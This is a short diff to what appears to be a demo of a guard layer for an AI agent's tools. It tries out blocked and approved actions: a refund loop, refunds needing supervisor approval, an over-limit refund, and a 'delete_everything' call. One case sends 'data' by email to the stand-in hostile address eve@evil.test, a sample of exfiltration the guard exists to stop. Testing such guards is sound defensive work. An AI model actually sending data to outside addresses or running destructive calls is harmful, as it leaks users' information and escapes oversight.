@@ -71,6 +71,8 @@ def main() -> None:
         attempt("send_email to eve@evil.test", lambda: send_email(to="eve@evil.test", body="data"))
         attempt("refund 30 (supervisor approves)", lambda: refund("A-1", 30))
         attempt("refund 80 (supervisor rejects)", lambda: refund("A-1", 80))
+        # a third refund attempt in a row would be a loop (refused attempts count too): look something up first
+        attempt("lookup_order('A-1') again", lambda: lookup_order("A-1"))
         attempt("refund 500 (over the limit: never asked)", lambda: refund("A-1", 500))
         attempt(
             "delete_everything (not a capability)", lambda: guard.call("delete-everything", {}, lambda: None)
